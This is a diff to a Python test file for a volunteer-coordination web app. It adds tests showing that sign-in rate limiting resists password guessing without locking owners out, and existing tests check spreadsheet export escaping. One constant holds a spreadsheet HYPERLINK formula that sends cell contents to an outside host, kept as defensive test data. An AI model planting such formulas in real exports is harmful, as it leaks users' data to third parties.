@@ -5,13 +5,14 @@ from __future__ import annotations
 import csv
 import io
 from datetime import UTC, datetime, timedelta
+from types import SimpleNamespace
 from typing import Any
-from uuid import UUID
 
 import openpyxl
 import pytest
 from litestar.testing import TestClient
 
+from coordination.account import BadCredentials
 from coordination.areas.accounts.commands import CreateUser, RegisterVolunteer
 from coordination.areas.attendance.commands import CheckIn, CheckOut
 from coordination.areas.packing.commands import AddLine, DispatchTruck, LogBoxes
@@ -24,6 +25,8 @@ from tests.helpers import PASSWORD, mobile, national_id
 from web.bootstrap import Services
 from web.platform.downloads import csv_response, workbook_response
 from web.platform.imports import start_import
+from web.platform.limits import limited_sign_in, phone_key
+from web.platform.ratelimit import SIGN_IN_ACCOUNT, SIGN_IN_ADDRESS, TooManyAttempts
 
 FORMULA = '=HYPERLINK("http://x?leak="&B2,"Open")'
 LIVE_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -113,7 +116,9 @@ def test_numbers_stay_numbers_and_text_that_looks_live_is_quoted() -> None:
     columns = ("name", "count", "at", "tab", "plain")
     text = csv_response(rows, columns, "t").content.decode("utf-8-sig")
     assert list(csv.reader(io.StringIO(text)))[1] == ["'-1+1", "-5", "'@SUM(A1)", "'\tx", "منى"]
-    book = openpyxl.load_workbook(io.BytesIO(workbook_response({"t": (rows, columns)}, "t").content))
+    book = openpyxl.load_workbook(
+        io.BytesIO(workbook_response({"t": (rows, columns)}, "t").content)
+    )
     cells = [(cell.value, cell.data_type) for cell in book["t"][2]]
     assert cells[1] == (-5, "n") and all(kind in ("s", "n") for _, kind in cells)
 
@@ -127,3 +132,49 @@ def test_a_governorate_report_named_in_arabic_indic_digits(
     answer = client.get(f"/governorates/report/{name}")
     assert answer.status_code == 200
     assert answer.headers["content-disposition"].isascii()
+
+
+def request_from(services: Services, address: str) -> Any:
+    return SimpleNamespace(
+        client=SimpleNamespace(host=address),
+        app=SimpleNamespace(state=SimpleNamespace(services=services)),
+    )
+
+
+def owner(services: Services) -> str:
+    phone = mobile()
+    services.dispatcher.run(RegisterVolunteer("Owner", phone, national_id(), "01", PASSWORD))
+    return phone
+
+
+def test_wrong_passwords_from_elsewhere_never_lock_the_owner_out(services: Services) -> None:
+    phone = owner(services)
+    for n in range(40):
+        with pytest.raises(BadCredentials):
+            limited_sign_in(request_from(services, f"203.0.113.{n % 8}"), phone, "guess-1234")
+    assert limited_sign_in(request_from(services, "198.51.100.1"), phone, PASSWORD)
+    with pytest.raises(TooManyAttempts):  # an address that kept failing still waits
+        limited_sign_in(request_from(services, "203.0.113.1"), phone, PASSWORD)
+
+
+def test_an_account_under_attack_brakes_every_address_that_failed_on_it(
+    services: Services,
+) -> None:
+    assert SIGN_IN_ACCOUNT.limit >= 300 and SIGN_IN_ACCOUNT.window >= 3600  # a slow brake
+    phone = owner(services)
+    account = phone_key(request_from(services, "x"), phone)
+    services.limiter.record([(SIGN_IN_ACCOUNT, account)] * SIGN_IN_ACCOUNT.limit)
+    with pytest.raises(BadCredentials):
+        limited_sign_in(request_from(services, "203.0.113.9"), phone, "guess-1234")
+    with pytest.raises(TooManyAttempts):
+        limited_sign_in(request_from(services, "203.0.113.9"), phone, PASSWORD)
+    assert limited_sign_in(request_from(services, "198.51.100.2"), phone, PASSWORD)
+
+
+def test_one_address_trying_many_accounts_is_stopped(services: Services) -> None:
+    where = request_from(services, "203.0.113.77")
+    for _ in range(SIGN_IN_ADDRESS.limit):
+        with pytest.raises(BadCredentials):
+            limited_sign_in(where, mobile(), "guess-1234")
+    with pytest.raises(TooManyAttempts):
+        limited_sign_in(where, owner(services), PASSWORD)
